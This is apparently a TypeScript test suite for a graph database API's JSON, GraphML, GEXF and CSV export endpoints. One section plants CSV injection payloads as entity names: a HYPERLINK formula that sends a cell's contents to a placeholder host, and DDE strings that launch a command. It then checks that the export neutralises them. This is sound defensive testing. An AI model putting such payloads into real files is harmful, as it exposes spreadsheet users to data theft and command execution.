import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { CypherCatalog } from '../../src/db/cypher/catalog';
import { ingest } from '../../src/ingest/ingest';
import { projectRoot } from '../../src/projectRoot';
import { curationWorld, syntheticWorld, writeFixture } from '../support/fixtures';
import { connectTestDatabase, uniqueToken } from '../support/testDatabase';
import { CURATOR, startTestApi, type TestApi } from '../support/testApi';

/**
 * GET /export/*: each format fetched from the real API over the real Neo4j and parsed, for
 * the whole graph and around one entity of a fixture world this file writes.
 */
const token = uniqueToken();
const COUNT = 6;
const world = syntheticWorld(token, COUNT);
let api: TestApi;

const org = (i: number) => `org:${token}-org-${i}`;
const projectIds = Array.from({ length: COUNT }, (_v, i) => `project:${token}-p-${String(i).padStart(3, '0')}`);

interface CytoscapeDocument {
  data: { truncated: boolean; nodeCount: number; edgeCount: number };
  elements: {
    nodes: Array<{ data: { id: string; label: string; type: string; labels: string[]; degree: number } & Record<string, unknown> }>;
    edges: Array<{ data: { id: string; source: string; target: string; type: string; evidence: Array<{ document: string; excerpt: string }> } & Record<string, unknown> }>;
  };
}

async function get(pathAndQuery: string): Promise<{ status: number; type: string; headers: Headers; text: string }> {
  const response = await fetch(`${api.baseUrl}${pathAndQuery}`);
  return { status: response.status, type: response.headers.get('content-type') ?? '', headers: response.headers, text: await response.text() };
}

async function cytoscape(query: string): Promise<CytoscapeDocument> {
  const answer = await get(`/export/graph.json${query}`);
  expect(answer.status).toBe(200);
  expect(answer.type).toMatch(/^application\/json/);
  return JSON.parse(answer.text) as CytoscapeDocument;
}

/** Reads RFC 4180 CSV into records keyed by the header row. */
function readCsv(text: string): Array<Record<string, string>> {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(field), (field = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += ch;
  }
  expect(quoted).toBe(false);
  expect(row).toEqual([]);
  const [header, ...records] = rows;
  return records.map((r) => {
    expect(r).toHaveLength(header!.length);
    return Object.fromEntries(header!.map((name, i) => [name, r[i]!]));
  });
}

const xml = new XMLParser({
  ignoreAttributes: false,
  attributeNamePrefix: '',
  parseTagValue: false,
  parseAttributeValue: false,
  htmlEntities: true,
  isArray: (name: string, _path: unknown, _leaf: boolean, isAttribute: boolean) => !isAttribute && ['key', 'node', 'edge', 'data', 'attribute', 'attvalue'].includes(name),
});
type XmlElement = Record<string, unknown>;

beforeAll(async () => {
  const fixture = writeFixture(world.files, world.documents);
  const db = connectTestDatabase();
  try {
    await ingest(db, new CypherCatalog(), fixture.datasetDir, { documentsDir: fixture.documentsDir });
  } finally {
    await db.close();
  }
  api = await startTestApi();
});

afterAll(async () => {
  await api.close();
});

describe('GET /export/graph.json', () => {
  it('answers the neighbourhood of the focus in Cytoscape.js elements format, as the API draws it', async () => {
    const doc = await cytoscape(`?focus=${org(1)}&depth=1`);
    const expected = await api.gql<{ neighbourhood: { nodes: Array<{ id: string }>; edges: Array<{ id: string }> } }>(
      `{ neighbourhood(id: "${org(1)}", depth: 1, limit: 2000) { nodes { id } edges { id } } }`,
    );
    const graph = expected.body.data!.neighbourhood;
    expect(doc.elements.nodes.map((n) => n.data.id).sort()).toEqual(graph.nodes.map((n) => n.id).sort());
    expect(doc.elements.edges.map((e) => e.data.id).sort()).toEqual(graph.edges.map((e) => e.id).sort());
    expect(doc.data).toMatchObject({ truncated: false, nodeCount: graph.nodes.length, edgeCount: graph.edges.length });

    const centre = doc.elements.nodes.find((n) => n.data.id === org(1))!;
    expect(centre.data).toMatchObject({ label: `${token} Organisation 1`, type: 'Organisation', labels: ['Organisation'], kind: 'GOVERNMENT', degree: COUNT + 2 });
    const implemented = doc.elements.edges.find((e) => e.data.source === projectIds[2] && e.data.type === 'IMPLEMENTED_BY')!;
    expect(implemented.data).toMatchObject({ target: org(1), role: 'LEAD', evidence: [{ document: world.doc, excerpt: `${token} Project 2 is implemented by Organisation 1.` }] });
  });

  it('follows only the relationship types given', async () => {
    const doc = await cytoscape(`?focus=${org(1)}&depth=3&types=PART_OF`);
    expect(doc.elements.nodes.map((n) => n.data.id).sort()).toEqual([org(0), org(1), org(2)].sort());
    expect(doc.elements.edges.every((e) => e.data.type === 'PART_OF')).toBe(true);
  });

  it('answers the whole graph without a focus, every edge between two of its nodes', async () => {
    const answer = await get('/export/graph.json');
    const doc = JSON.parse(answer.text) as CytoscapeDocument;
    const ids = new Set(doc.elements.nodes.map((n) => n.data.id));
    for (const id of ['org:dgmm', org(0), ...projectIds]) expect(ids.has(id)).toBe(true);
    for (const edge of doc.elements.edges) expect(ids.has(edge.data.source) && ids.has(edge.data.target)).toBe(true);
    expect(doc.data.truncated).toBe(false);
    expect(answer.headers.get('x-graph-nodes')).toBe(String(doc.elements.nodes.length));
    expect(answer.headers.get('x-graph-truncated')).toBe('false');
  });
});

describe('GET /export/graph.graphml and /export/graph.gexf', () => {
  it('answer well-formed GraphML with declared keys, for the same nodes and edges as the JSON', async () => {
    const json = await cytoscape(`?focus=${org(1)}&depth=1`);
    const answer = await get(`/export/graph.graphml?focus=${org(1)}&depth=1`);
    expect(answer.status).toBe(200);
    expect(answer.type).toMatch(/^application\/graphml\+xml/);
    expect(answer.headers.get('content-disposition')).toMatch(/attachment; filename=".*depth1-graph\.graphml"/);
    expect(XMLValidator.validate(answer.text)).toBe(true);
    const root = xml.parse(answer.text) as { graphml: { key: XmlElement[]; graph: { node: XmlElement[]; edge: XmlElement[] } } };
    expect(root.graphml.graph.node.map((n) => n.id).sort()).toEqual(json.elements.nodes.map((n) => n.data.id).sort());
    expect(root.graphml.graph.edge).toHaveLength(json.elements.edges.length);
    const declared = new Set(root.graphml.key.map((k) => k.id));
    for (const element of [...root.graphml.graph.node, ...root.graphml.graph.edge]) {
      for (const data of (element.data as XmlElement[] | undefined) ?? []) expect(declared.has(data.key)).toBe(true);
    }
  });

  it('answer well-formed GEXF 1.3 with declared attributes', async () => {
    const answer = await get(`/export/graph.gexf?focus=${org(1)}&depth=1`);
    expect(answer.status).toBe(200);
    expect(answer.type).toMatch(/^application\/gexf\+xml/);
    expect(XMLValidator.validate(answer.text)).toBe(true);
    const root = xml.parse(answer.text) as { gexf: { version: string; graph: { attributes: XmlElement[]; nodes: { node: XmlElement[] }; edges: { edge: XmlElement[] } } } };
    expect(root.gexf.version).toBe('1.3');
    const centre = root.gexf.graph.nodes.node.find((n) => n.id === org(1))!;
    expect(centre.label).toBe(`${token} Organisation 1`);
    const values = Object.fromEntries(((centre.attvalues as XmlElement).attvalue as XmlElement[]).map((v) => [v.for, v.value]));
    expect(values).toMatchObject({ type: 'Organisation', kind: 'GOVERNMENT', degree: String(COUNT + 2) });
    expect(root.gexf.graph.edges.edge.some((e) => e.label === 'IMPLEMENTED_BY' && e.target === org(1))).toBe(true);
  });
});

describe('GET /export/nodes.csv and /export/edges.csv', () => {
  it('answer CSV with a header row that reads back to the nodes and the edges with their evidence', async () => {
    const nodes = await get(`/export/nodes.csv?focus=${org(1)}&depth=1`);
    expect(nodes.type).toMatch(/^text\/csv/);
    const nodeRows = readCsv(nodes.text);
    expect(nodeRows.find((r) => r.id === org(1))).toMatchObject({ label: `${token} Organisation 1`, type: 'Organisation', degree: String(COUNT + 2) });
    expect(nodeRows.filter((r) => r.type === 'Project').map((r) => r.id).sort()).toEqual(projectIds);

    const edgeRows = readCsv((await get(`/export/edges.csv?focus=${org(1)}&depth=1`)).text);
    const partOf = edgeRows.find((r) => r.type === 'PART_OF')!;
    expect(partOf).toMatchObject({ source: org(1), target: org(0), evidenceCount: '1', evidenceDocuments: world.doc });
    expect(JSON.parse(partOf.evidence!)).toEqual([{ document: world.doc, excerpt: `${token} Organisation 1 is part of ${token} Organisation 0.` }]);
  });
});

describe('CSV exports opened in a spreadsheet', () => {
  // Entities a curator could create, named as OWASP's CSV injection examples: each would run as
  // a formula in the spreadsheet of whoever opens the export.
  const curated = curationWorld(`${token}c`);
  const project = `project:${token}c-project`;
  const hostile = [
    { id: `org:${token}c-hyperlink`, name: '=HYPERLINK("http://example.invalid/?x="&A1,"Click")', role: "@SUM(1+1)*cmd|' /C calc'!A0" },
    { id: `org:${token}c-sum`, name: "@SUM(1+1)*cmd|' /C calc'!A0", role: "-2+3+cmd|' /C calc'!A0" },
    { id: `org:${token}c-plus`, name: '+1+1 and more', role: '=1+1' },
  ];
  const FORMULA_START = /^[=+\-@\t\r]/;

  beforeAll(async () => {
    const fixture = writeFixture(curated.files, curated.documents);
    await ingest(api.db, new CypherCatalog(), fixture.datasetDir, { documentsDir: fixture.documentsDir });
    for (const entity of hostile) {
      const evidence = { document: curated.ref, excerpt: `${entity.name} is listed in the register.` };
      const created = await api.gql('mutation($input: CreateEntityInput!) { createEntity(input: $input) { entity { id name } } }', { input: { type: 'ORGANISATION', id: entity.id, name: entity.name, evidence } }, CURATOR);
      expect(created.body.errors).toBeUndefined();
      const linked = await api.gql('mutation($input: LinkInput!) { link(input: $input) { linked } }', { input: { from: project, to: entity.id, type: 'BENEFITS', role: entity.role, evidence } }, CURATOR);
      expect(linked.body.errors).toBeUndefined();
    }
  });

  /** Every cell of a CSV file as csv-parse reads it, the header row first. */
  async function cells(file: string): Promise<string[][]> {
    const answer = await get(`/export/${file}?focus=${project}&depth=1`);
    expect(answer.status).toBe(200);
    return parseCsv(answer.text) as string[][];
  }

  it('write no cell that begins with =, +, -, @, a tab or a carriage return, in any column of nodes.csv and edges.csv', async () => {
    for (const file of ['nodes.csv', 'edges.csv']) {
      const rows = await cells(file);
      expect(rows.length).toBeGreaterThan(hostile.length);
      for (const row of rows) for (const cell of row) expect({ file, cell, formula: FORMULA_START.test(cell) }).toEqual({ file, cell, formula: false });
    }
  });

  it('keep the names and roles readable, behind the single quote that marks them as text', async () => {
    const [nodeHeader, ...nodeRows] = await cells('nodes.csv');
    const label = nodeHeader!.indexOf('label');
    for (const entity of hostile) expect(nodeRows.find((row) => row[0] === entity.id)?.[label]).toBe(`'${entity.name}`);
    const [edgeHeader, ...edgeRows] = await cells('edges.csv');
    const [target, role] = [edgeHeader!.indexOf('target'), edgeHeader!.indexOf('role')];
    for (const entity of hostile) expect(edgeRows.find((row) => row[target] === entity.id)?.[role]).toBe(`'${entity.role}`);
  });
});

describe('bad export requests', () => {
  it('answer 400 with a JSON error that says what was expected', async () => {
    for (const query of ['?focus=org:dgmm&depth=4', '?types=LIKES', '?type=FUNDED_BY', '?depth=2', '?focus=org:dgmm&limit=abc']) {
      const answer = await get(`/export/graph.json${query}`);
      expect(answer.status).toBe(400);
      expect(answer.type).toMatch(/^application\/json/);
      const body = JSON.parse(answer.text) as { errors: Array<{ message: string; extensions: { code: string } }> };
      expect(body.errors[0]?.extensions.code).toBe('BAD_REQUEST');
      expect(body.errors[0]?.message.length).toBeGreaterThan(20);
    }
  });

  it('answer 404 for an unknown focus and an unknown format', async () => {
    const unknown = await get('/export/graph.graphml?focus=org:nothing-here');
    expect(unknown.status).toBe(404);
    expect((JSON.parse(unknown.text) as { errors: Array<{ message: string }> }).errors[0]?.message).toContain('org:nothing-here');
    expect((await get('/export/graph.dot')).status).toBe(404);
  });
});

/** The Python the project's notebooks use (.venv from scripts/test-python.mjs), else the system's, if it has networkx. */
function pythonWithNetworkx(): string | null {
  for (const python of [path.join(projectRoot(), '.venv', 'bin', 'python'), 'python3']) {
    if (python.includes('.venv') && !existsSync(python)) continue;
    const probe = spawnSync(python, ['-c', 'import networkx'], { encoding: 'utf8' });
    if (probe.status === 0) return python;
  }
  return null;
}

const python = pythonWithNetworkx();

// networkx is how the notebooks read these files; where no Python has it, this check cannot run.
(python ? describe : describe.skip)('read by networkx', () => {
  it('reads the GraphML and GEXF exports into the same directed multigraph as the JSON', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'mgg-export-'));
    try {
      const query = `?focus=${org(1)}&depth=1`;
      const json = await cytoscape(query);
      writeFileSync(path.join(dir, 'g.graphml'), (await get(`/export/graph.graphml${query}`)).text);
      writeFileSync(path.join(dir, 'g.gexf'), (await get(`/export/graph.gexf${query}`)).text);
      const script = [
        'import json, sys, networkx as nx',
        'g = nx.read_graphml(sys.argv[1]); x = nx.read_gexf(sys.argv[2], version="1.3")',
        `c = "${org(1)}"`,
        'print(json.dumps({"graphml": [g.number_of_nodes(), g.number_of_edges(), g.is_directed(), g.nodes[c]["label"], g.nodes[c]["degree"]],',
        '  "gexf": [x.number_of_nodes(), x.number_of_edges(), x.is_directed(), x.nodes[c]["label"], x.nodes[c]["degree"]]}))',
      ].join('\n');
      const run = spawnSync(python!, ['-c', script, path.join(dir, 'g.graphml'), path.join(dir, 'g.gexf')], { encoding: 'utf8' });
      expect(run.stderr).toBe('');
      const read = JSON.parse(run.stdout) as Record<string, [number, number, boolean, string, number]>;
      const expected = [json.elements.nodes.length, json.elements.edges.length, true, `${token} Organisation 1`, COUNT + 2];
      expect(read.graphml).toEqual(expected);
      expect(read.gexf).toEqual(expected);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
